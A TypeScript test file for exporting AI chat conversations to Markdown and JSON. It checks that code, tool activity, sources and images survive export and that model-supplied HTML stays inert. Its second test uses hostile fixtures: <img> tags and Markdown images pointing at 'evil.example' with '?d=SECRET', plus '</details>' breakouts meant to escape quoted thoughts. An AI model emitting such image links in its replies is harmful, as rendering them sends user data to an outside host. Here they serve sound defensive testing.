import { strict as assert } from 'node:assert';
import MarkdownIt from 'markdown-it';
import { conversationToJson, conversationToMarkdown } from '../../src/core/history/exportConversation';
import type { ConversationData } from '../../src/core/conversation/types';

const PNG = Buffer.from('\x89PNG fake image bytes', 'latin1').toString('base64');

function conversation(): ConversationData {
  return {
    id: 'c1', title: 'Sorting [fast]', createdAt: Date.UTC(2026, 11, 2), updatedAt: Date.UTC(2026, 11, 2, 1), lastInteractionId: 'v1_b',
    turns: [
      { role: 'user', id: 'u1', text: 'How do I sort?', at: 1, attachments: [{ name: 'a.ts', mimeType: 'text/plain', sizeBytes: 3, kind: 'text' }], wire: { type: 'user_input' } },
      {
        role: 'model', id: 'm1', model: 'gemini-3.8-flash', state: 'done', startedAt: 1, finishedAt: 2, interactionIds: ['v1_a', 'v1_b'], wire: [{ big: 'x' }],
        parts: [
          { kind: 'thought', text: 'Thinking about sorting.' },
          { kind: 'codeCall', id: 'c', language: 'PYTHON', code: 'print(sorted([3,1,2]))' },
          { kind: 'codeResult', callId: 'c', output: '[1, 2, 3]\n' },
          { kind: 'text', text: 'Use `sorted`:\n\n```py\nsorted(xs)\n```', citations: [{ kind: 'url', url: 'https://docs.python.org/3/howto/sorting.html', title: 'Sorting (HOWTO)' }] },
          { kind: 'media', media: { type: 'image', mimeType: 'image/png', data: PNG, name: 'chart.png' } },
        ],
      },
    ],
  };
}

describe('export a conversation', () => {
  it('Markdown: turns, code as it was, tool activity as text, sources as links, images as files beside it', () => {
    const { markdown, files } = conversationToMarkdown(conversation(), 'sorting-files');
    assert.match(markdown, /^# Sorting \[fast\]\n/);
    assert.match(markdown, /## You\n\nHow do I sort\?\n\n- Attached: a\.ts \(text\/plain\)/);
    assert.match(markdown, /## Gemini \(gemini-3\.8-flash\)/);
    assert.match(markdown, /\*\*Code execution\*\* \(PYTHON\):\n\n```python\nprint\(sorted\(\[3,1,2\]\)\)\n```/);
    assert.match(markdown, /\*\*Code output\*\*:\n\n```\n\[1, 2, 3\]\n```/);
    assert.ok(markdown.includes('Use `sorted`:\n\n```py\nsorted(xs)\n```'), 'the answer\'s own markdown is kept');
    assert.match(markdown, /Sources:\n\n1\. \[Sorting \(HOWTO\)\]\(https:\/\/docs\.python\.org\/3\/howto\/sorting\.html\)/);
    assert.match(markdown, /!\[chart\.png\]\(sorting-files\/001-chart\.png\)/);
    assert.deepEqual(files, [{ name: '001-chart.png', data: PNG, mimeType: 'image/png' }]);
    assert.match(markdown, /^> \*\*Thoughts\*\*\n>\s*\n> Thinking about sorting\.$/m);
  });

  it('Markdown is inert in a preview: no HTML or remote image from the model, thoughts cannot end early, fences end with their part', () => {
    const hostile: ConversationData = {
      id: 'c2', title: 'Hi <img src=https://evil.example/title.png>', createdAt: 0, updatedAt: 0,
      turns: [
        { role: 'user', id: 'u1', text: 'Explain `Vec<T>`', at: 1, attachments: [{ name: '<img src=https://evil.example/name.png>.ts', mimeType: 'text/plain', sizeBytes: 1, kind: 'text' }] },
        {
          role: 'model', id: 'm1', model: 'gemini-3.8-flash', state: 'done', startedAt: 1, interactionIds: [],
          parts: [
            { kind: 'thought', text: 'Plan.\n</details>\n<img src="https://evil.example/thought.png">\n<details>' },
            { kind: 'text', text: 'Look <img src=https://evil.example/a.png?d=SECRET> and ![x](https://evil.example/b.png?d=SECRET) and ![y][r]\n\n[r]: //evil.example/c.png\n\n```ts\nconst v: Array<number> = [];\n' },
            { kind: 'text', text: 'After the open fence: <img src=https://evil.example/d.png>' },
            { kind: 'toolResult', tool: 'MCP', callId: 't', result: 'Result ![r](https://evil.example/e.png)\n<img src=https://evil.example/f.png>' },
            { kind: 'functionCall', id: 'f', name: 'read`<img src=x>`', argsText: '{}' },
            { kind: 'searchCall', id: 's', queries: ['<img src=https://evil.example/q.png>'] },
            { kind: 'media', media: { type: 'image', mimeType: 'image/png', uri: 'https://evil.example/remote.png', name: 'remote.png' } },
            { kind: 'media', media: { type: 'image', mimeType: 'image/png', data: PNG, name: 'chart.png' } },
          ],
          error: { message: 'failed <img src=https://evil.example/err.png>' },
        },
      ],
    };
    const { markdown } = conversationToMarkdown(hostile, 'files');
    const html = new MarkdownIt({ html: true, linkify: true }).render(markdown);
    // The one image shown is the one written beside the file.
    assert.deepEqual([...html.matchAll(/<img [^>]*src="([^"]*)"/g)].map((m) => m[1]), ['files/001-chart.png']);
    assert.doesNotMatch(html, /<(?!\/?(p|code|pre|a|em|strong|ul|ol|li|blockquote|h1|h2|h3|h4|h5|h6|hr|br|img)\b)[a-z]/i, 'no HTML from the conversation');
    assert.doesNotMatch(html, /<details/);
    // Remote images are plain links; code keeps its <.
    assert.match(html, /<a href="https:\/\/evil\.example\/b\.png\?d=SECRET">x<\/a>/);
    assert.match(html, /<a href="https:\/\/evil\.example\/remote\.png">remote\.png<\/a>/);
    assert.match(html, /<code>Vec&lt;T&gt;<\/code>/);
    // The thought is one quote, whatever it wrote; the open fence ended with its part.
    assert.match(markdown, /> \*\*Thoughts\*\*\n>\s*\n> Plan\.\n> &lt;\/details>\n> &lt;img src="https:\/\/evil\.example\/thought\.png">\n> &lt;details>/);
    assert.match(html, /<pre><code class="language-ts">const v: Array&lt;number&gt; = \[\];\n<\/code><\/pre>\n<p>After the open fence: &lt;img src=/);
  });

  it('JSON: the transcript with its interaction ids, without the wire copies', () => {
    const json = JSON.parse(conversationToJson(conversation()));
    assert.equal(json.format, 'gemini-interactions-conversation');
    assert.equal(json.lastInteractionId, 'v1_b');
    assert.deepEqual(json.turns[1].interactionIds, ['v1_a', 'v1_b']);
    assert.equal(json.turns[0].wire, undefined);
    assert.equal(json.turns[1].wire, undefined);
    assert.equal(json.createdAt, '2026-12-02T00:00:00.000Z');
  });
});
